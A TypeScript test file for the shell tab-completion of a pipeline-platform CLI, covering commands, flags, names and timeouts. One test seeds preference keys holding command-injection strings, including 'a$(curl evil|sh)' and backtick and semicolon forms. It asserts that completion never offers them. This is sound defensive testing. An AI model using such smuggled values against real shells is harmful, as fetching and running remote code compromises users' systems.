import { existsSync } from 'node:fs';
import { createServer } from 'node:net';
import { once } from 'node:events';
import { join } from 'node:path';
import { describe, expect, it, vi } from 'vitest';
import { rawAnswer, rawServer } from '../support/raw-server.js';
import { runCli, withTempDir } from '../support/processes/run-cli.js';
import { withUpgradeSite, type UpgradeSite } from '../support/sites/upgrade-site.js';

const SEED = { namespaces: ['etl', 'sales'], pipelines: [{ count: 3 }] };
const complete = async (site: UpgradeSite, ...words: readonly string[]): Promise<readonly string[]> =>
  (await site.cdapctl(['complete', '--', ...words])).stdout.split('\n').slice(0, -1);

/** As often as a user presses Tab where a busy platform did not answer within 200 ms: until it names something. */
const offered = (site: UpgradeSite, ...words: readonly string[]): Promise<readonly string[]> =>
  vi.waitUntil(
    async () => {
      const names = await complete(site, ...words);
      return names.some((name) => name !== 'latest') && names;
    },
    { timeout: 60_000 },
  );

describe('completion', () => {
  it.each([
    ['a command', ['cont'], ['context']],
    ['a command of a group', ['context', 're'], ['remove', 'rename']],
    ['a command below a command', ['upgrade', 'ro'], ['rollback']],
    ['a flag', ['install', '--insec'], ['--insecure-skip-tls-verify']],
    ['a flag that can be taken back', ['context', 'set', 'x', '--no-p'], ['--no-progress', '--no-protected']],
    ['a value from a list', ['namespace', 'list', '-o', 'js'], ['json']],
    ['a value behind =', ['namespace', 'list', '--output=nd'], ['--output=ndjson']],
    ['a value behind = as bash splits it', ['namespace', 'list', '--output', '=', 'nd'], ['ndjson']],
    ['a status', ['pipeline', 'list', '--status', 'R'], ['RUNNING', 'RESUMING', 'REJECTED']],
    ['one more status', ['pipeline', 'list', '--status', 'FAILED,K'], ['FAILED,KILLED']],
    ['one more status behind =', ['pipeline', 'runs', '--status=KILLED,K'], []],
    ['a column', ['pipeline', 'list', '--fields', 'name,n'], ['name,namespace', 'name,nextRunAt']],
    ['a column behind = as bash splits it', ['schedule', 'list', '--fields', '=', 'cron,st'], ['cron,status']],
    ['no column of one object', ['pipeline', 'stop', '--fields', ''], []],
    ['a setting of the file', ['config', 'set', 'u'], ['url', 'uiUrl']],
    ['a setting', ['config', 'get', 'token'], ['tokenCommand', 'tokenFile']],
    ['help', ['hel'], ['help']],
    ['a page of help', ['help', 's'], ['schedule', 'schema', 'scripting']],
    ['a page of help of a command', ['help', 'context', 're'], ['remove', 'rename']],
    ['a status of runs', ['pipeline', 'runs', '--status', 'S'], ['STARTING', 'SUSPENDED', 'STOPPING']],
    ['a file', ['upgrade', '-a', ''], [':files']],
    ['a shell', ['completion', 'po'], ['powershell']],
    ['nothing where a text stands', ['install', '--set', ''], []],
    ['nothing of an unknown command', ['nonsense', 'x', ''], []],
    ['no hidden command', ['comple'], ['completion']],
  ])('knows %s', (_, words, expected) =>
    withTempDir(async (home) => {
      const { stdout, stderr, code } = await runCli(['complete', '--', ...words], { home });
      expect([code, stderr, stdout.split('\n').slice(0, -1)]).toEqual([0, '', expected]);
    }),
  );

  it('knows names of contexts, hubs, namespaces and pipelines, and keeps those of the platform', () =>
    withUpgradeSite({ seed: SEED }, async (site) => {
      await site.cdapctl(['context', 'add', 'prod', '-u', site.url]);
      await site.cdapctl(['hub', 'add', 'corp', 'http://127.0.0.1:1/v2']);
      expect(await complete(site, 'context', 'use', '')).toEqual(['prod']);
      expect(await complete(site, 'dashboard', '--context=p')).toEqual(['--context=prod']);
      expect(await complete(site, 'hub', 'remove', 'c')).toEqual(['corp']);
      const namespaces = ['default', 'etl', 'sales'];
      expect(await offered(site, 'dashboard', '-n', '')).toEqual(namespaces);
      const pipelines = await offered(site, 'pipeline', 'show', 'pipe');
      expect(pipelines.length).toBeGreaterThan(1);
      expect(await offered(site, 'pipeline', 'show', 'default/pipe')).toEqual(
        pipelines.map((name) => `default/${name}`),
      );
      await site.forget();
      expect(await complete(site, 'dashboard', '-n', '')).toEqual(namespaces);
      expect(await site.requests()).toEqual([]);
    }));

  it('knows packages that a list has shown, also while the hub is down', () =>
    withTempDir(async (home) => {
      const made = { label: 'L', description: 'D', author: 'A', org: 'O', created: 1, categories: [] };
      const catalog = ['csv-parser', 'csv-writer', 'example-trim'].map((name) => {
        return { name, version: '1.0.0', cdapVersion: '[6.1.0,7.0.0)', ...made };
      });
      const hub = await rawServer((socket, { target }) => {
        const isThere = target === '/v2/packages.json';
        socket.end(rawAnswer(isThere ? 200 : 404, isThere ? JSON.stringify(catalog) : '', { connection: 'close' }));
      });
      await runCli(['hub', 'add', 'corp', `${hub.url}/v2`], { home });
      const names = (await runCli(['hub', 'list', '-o', 'name'], { home })).stdout;
      await hub.close();
      expect(names).toContain('csv-parser');
      const install = (typed: string) => runCli(['complete', '--', 'install', typed], { home });
      expect(await install('csv-')).toMatchObject({ code: 0, stdout: 'csv-parser\ncsv-writer\n', stderr: '' });
      expect((await install('')).stdout.split('\n')).toContain('example-trim');
    }));

  it('knows the runs of a pipeline, its stored keys and its arguments', () =>
    withUpgradeSite({ seed: { ...SEED, runs: { count: 300 } } }, async (site) => {
      await site.cdapctl(['context', 'add', 'prod', '-u', site.url, '-n', 'etl']);
      const [name = ''] = await offered(site, 'pipeline', 'why', '');
      const [latest, ...runs] = await offered(site, 'pipeline', 'why', name, '');
      expect(latest).toBe('latest');
      expect(runs.length).toBeGreaterThan(1);
      const [first = ''] = runs;
      expect(await offered(site, 'pipeline', 'start', name, '--like', first.slice(0, 12))).toContain(first);
      await site.cdapctl(['args', 'set', name, '--set', 'zone=eu', '-y']);
      expect(await offered(site, 'args', 'unset', name, '--key', '')).toEqual(['zone']);
      await site.cdapctl(['preferences', 'set', '--set', 'region=eu', '-y']);
      await site.cdapctl(['preferences', 'set', '--level', 'instance', '--set', 'size=8', '-y']);
      expect(await offered(site, 'preferences', 'unset', '--key', '')).toEqual(['region']);
      expect(await offered(site, 'preferences', 'unset', '--level', 'instance', '--key', '')).toEqual(['size']);
      expect(await offered(site, 'preferences', 'unset', name, '--level', 'program', '--key', 'z')).toEqual(['zone']);
      expect(await offered(site, 'pipeline', 'start', name, '--set', 'zo')).toEqual(['zone=']);
      expect(await complete(site, 'pipeline', 'why', 'nope', '')).toEqual(['latest']);
    }));

  it('offers nothing that a shell would take for more than a word', () =>
    withUpgradeSite({ seed: SEED }, async (site) => {
      await site.cdapctl(['context', 'add', 'prod', '-u', site.url, '-n', 'etl']);
      const keys = ['a$(curl evil|sh)', 'a`id`', 'a b', "a'b", 'a;b', 'a\u001b[2J', 'a\nb', 'a~', 'aöß', 'a.b-c_1'];
      await site.call('PUT', 'etl/preferences', Object.fromEntries(keys.map((key) => [key, '1'])));
      const names = await offered(site, 'preferences', 'unset', '--key', 'a');
      expect(names.toSorted()).toEqual(['a.b-c_1', 'aöß']);
    }));

  it('keeps names that lists have shown, for a platform that a token command opens', () =>
    withUpgradeSite({ seed: SEED }, async (site) => {
      const program = join(site.home, 'asked');
      await site.cdapctl(['context', 'add', 'prod', '-u', site.url, '--token-command', `touch ${program}`]);
      expect(await complete(site, 'dashboard', '-n', '')).toEqual([]);
      expect(existsSync(program)).toBe(false);
      await site.cdapctl(['context', 'set', 'prod', '--token-command', 'echo token']);
      const names = (await site.cdapctl(['pipeline', 'list', '-o', 'name'])).stdout.split('\n').slice(0, -1);
      await site.cdapctl(['pipeline', 'list', '-n', 'etl', '--status', 'RUNNING']);
      await site.cdapctl(['namespace', 'list']);
      await site.forget();
      expect(await complete(site, 'dashboard', '-n', '')).toEqual(['default', 'etl', 'sales']);
      expect(await complete(site, 'pipeline', 'show', '')).toEqual(names.map((name) => name.replace(/^.*\//u, '')));
      expect(await complete(site, 'pipeline', 'show', 'etl/')).toEqual([]);
      expect(await site.requests()).toEqual([]);
    }));

  it('never waits for a platform that does not answer, and asks no program for a token', () =>
    withTempDir(async (home) => {
      const silent = createServer().listen(0, '127.0.0.1');
      await once(silent, 'listening');
      const address = silent.address();
      const url = `http://127.0.0.1:${typeof address === 'object' && address !== null ? address.port : 0}`;
      const line = ['complete', '--', 'dashboard', '-u', url, '-n', ''];
      const took = async (words: readonly string[]): Promise<number> => {
        const started = performance.now();
        const { stdout, code } = await runCli(words, { home });
        expect([code, stdout]).toEqual([0, '']);
        return performance.now() - started;
      };
      const more: number[] = [];
      const alone = line.filter((word) => word !== '-u' && word !== url);
      for (let round = 0; round < 5; round += 1) more.push((await took(line)) - (await took(alone)));
      // It waits for 200 ms.
      expect(more.toSorted((one, other) => one - other)[2]).toBeLessThan(400);
      let connections = 0;
      silent.on('connection', () => (connections += 1));
      await runCli(line, { home, env: { CDAPCTL_TOKEN_COMMAND: `touch ${join(home, 'asked')}` } });
      expect(connections).toBe(0);
      silent.close();
    }));

  it.each(['bash', 'zsh', 'fish', 'powershell'])('has a script for %s, which asks the tool', (shell) =>
    withTempDir(async (home) => {
      const { code, stdout } = await runCli(['completion', shell], { home });
      expect([code, stdout]).toEqual([0, expect.stringContaining('cdapctl complete -- ')]);
    }),
  );
});
